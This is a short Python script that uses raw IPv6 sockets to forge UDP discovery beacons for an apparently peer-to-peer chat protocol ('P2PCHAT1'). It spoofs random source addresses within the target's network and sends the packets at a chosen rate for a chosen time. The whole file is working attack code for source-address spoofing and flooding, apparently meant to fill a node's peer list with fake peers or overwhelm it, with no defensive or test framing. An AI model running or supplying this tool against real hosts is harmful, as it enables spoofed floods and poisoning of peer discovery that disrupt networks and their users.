"""Forges beacons by IPv6: each of another node at another address of the network, so many a second for so long."""
import os, random, socket, struct, sys, time
from array import array

target, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = socket.inet_pton(socket.AF_INET6, target)


def datagram():
    source = to[:8] + os.urandom(8)
    payload = b'P2PCHAT1 {"id":"%s","port":47600,"boot":%d}' % (os.urandom(32).hex().encode(), random.getrandbits(53))
    length = 8 + len(payload)
    pseudo = source + to + struct.pack("!IIHHHH", length, 17, 40000, 5000, length, 0) + payload
    total = sum(array("H", pseudo + b"\0" * (len(pseudo) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    check = struct.pack("=H", ~total & 0xFFFF)
    return struct.pack("!IHBB", 6 << 28, length, 17, 64) + source + to + struct.pack("!HHH", 40000, 5000, length) + check + payload


begun, sent = time.monotonic(), 0
while (elapsed := time.monotonic() - begun) < seconds:
    while sent < elapsed * rate:
        raw.sendto(datagram(), (target, 0))
        sent += 1
    time.sleep(0.001)
print(sent)
